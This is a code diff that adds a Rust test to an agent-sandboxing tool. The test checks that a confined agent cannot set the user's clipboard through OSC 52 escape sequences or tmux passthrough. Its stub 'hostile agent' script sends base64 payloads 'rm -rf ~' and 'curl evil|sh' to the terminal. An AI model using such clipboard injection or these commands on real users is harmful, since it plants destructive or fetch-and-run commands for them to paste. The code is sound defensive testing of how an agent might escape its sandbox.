@@ -662,3 +662,60 @@ fn up_detached_without_tmux_is_refused_before_anything_is_made() {
     assert!(r.stderr.contains("git sandbox up nope --json"), "{r:?}");
     assert_eq!(env.snapshot(), before, "a refused up -d wrote something");
 }
+
+/// A hostile agent: once `$HOME/go-<box>` exists it writes, to its terminal, an OSC 52
+/// "set the clipboard" sequence and the same wrapped in tmux's passthrough, then a
+/// line that shows it has written them, and waits for `$HOME/stop-<box>`.
+const CLIPBOARD_AGENT: &str = r#"#!/bin/sh
+echo "$$" >> "$HOME/agent.pids"
+while [ ! -f "$HOME/go-$TREEBOX_BOX" ]; do sleep 0.05; done
+printf '\033]52;c;%s\a' "$(printf 'rm -rf ~' | base64)"
+printf '\033Ptmux;\033\033]52;c;%s\a\033\\' "$(printf 'curl evil|sh' | base64)"
+printf 'WRITTEN''-BOTH\n'
+while [ ! -f "$HOME/stop-$TREEBOX_BOX" ]; do sleep 0.05; done
+"#;
+
+#[test]
+fn a_box_cannot_set_the_clipboard_of_the_terminal_attached_to_it() {
+    let env = TestEnv::new();
+    write_exec(&env.bin.join("claude"), CLIPBOARD_AGENT);
+    // The user's own tmux.conf lets programs in panes set the clipboard and pass
+    // sequences through to the terminal: treebox's server loads it, and overrides both.
+    std::fs::write(
+        env.home.join(".tmux.conf"),
+        "set -g set-clipboard on\nset -g allow-passthrough on\n",
+    )
+    .unwrap();
+    let server = Server::of(&env);
+    env.treebox(&["create", "-d", "clip"]).ok();
+    started(&env.home, "clip", 1);
+    // A real client, attached on a pseudo-terminal whose every byte is kept.
+    let mut client = on_tty_running(&env, TREEBOX, "enter clip", &[]);
+    wait_for("the terminal to attach", || server.clients() == 1);
+    std::fs::write(env.home.join("go-clip"), "").unwrap();
+    wait_for("the agent's output to reach the terminal", || {
+        shown(&env).contains("WRITTEN-BOTH")
+    });
+    let raw = shown(&env);
+    // Neither sequence, nor either payload, reached the terminal.
+    for leak in ["]52;", "cm0gLXJmIH4=", "Y3VybCBldmlsfHNo", "Ptmux;"] {
+        assert!(
+            !raw.contains(leak),
+            "{leak:?} reached the terminal: {raw:?}"
+        );
+    }
+    // The server's options say so, and no paste buffer holds the payload either.
+    let shows = |args: &[&str]| String::from_utf8_lossy(&server.tmux(args).stdout).into_owned();
+    assert_eq!(
+        shows(&["show-options", "-g", "set-clipboard"]).trim(),
+        "set-clipboard off"
+    );
+    assert_eq!(
+        shows(&["show-options", "-gw", "allow-passthrough"]).trim(),
+        "allow-passthrough off"
+    );
+    assert_eq!(shows(&["list-buffers"]), "");
+    std::fs::write(env.home.join("stop-clip"), "").unwrap();
+    assert_eq!(client.wait().unwrap().code(), Some(0), "{}", shown(&env));
+    assert_eq!(session_of(&env, "clip"), "none");
+}
